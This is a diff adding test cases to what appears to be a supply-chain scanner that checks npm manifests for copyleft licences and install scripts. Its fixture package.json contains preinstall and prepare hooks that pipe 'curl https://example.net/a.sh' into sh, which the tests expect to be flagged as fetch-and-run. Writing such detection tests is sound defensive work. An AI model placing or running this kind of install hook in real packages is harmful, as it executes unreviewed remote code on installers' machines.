@@ -86,3 +86,24 @@ describe('manifest checks', () => {
     expect(found).toEqual(['package-lock.json:2 git-dependency-not-pinned', 'package-lock.json:3 no-integrity']);
   });
 });
+
+describe('a published package', () => {
+  const PACKAGE = { kind: 'package', leftOut: [] } as const;
+  const REPOSITORY = { kind: 'repository', leftOut: [] } as const;
+  const tree = {
+    'package.json': '{"name": "a", "license": "GPL-3.0-only",\n"scripts": {\n"preinstall": "curl https://example.net/a.sh | sh",\n"postinstall": "node-gyp rebuild",\n"prepare": "curl https://example.net/a.sh | sh",\n"test": "jest"}}',
+    'bundled/package.json': '{"name": "b",\n"license": {"type": "AGPL-3.0"}, "scripts": {"postinstall": "node b.js"}}',
+    'dist/package.json': '{"type": "module", "license": "GPL-3.0-only"}',
+  };
+
+  it('is judged as the dependency that it is: by its own licence, by those of what it bundles, and by what runs when it is installed', async () => {
+    const { found } = await runOn(profile, manifestTools, tree, PACKAGE);
+    expect(found).toEqual(['bundled/package.json:2 network-copyleft-licence', 'package.json:1 strong-copyleft-licence', 'package.json:3 fetches-and-runs', 'package.json:4 dependency-runs-script']);
+  });
+
+  it('is no dependency where its source is looked at: there its licence is a choice, and its scripts are those of the project', async () => {
+    const { found, tool } = await runOn(profile, manifestTools, tree, REPOSITORY);
+    expect(found).toEqual(['package.json:3 fetches-and-runs', 'package.json:5 fetches-and-runs']);
+    expect(['license-policy', 'install-scripts'].map((id) => tool(id).filesChecked)).toEqual([0, 3]);
+  });
+});
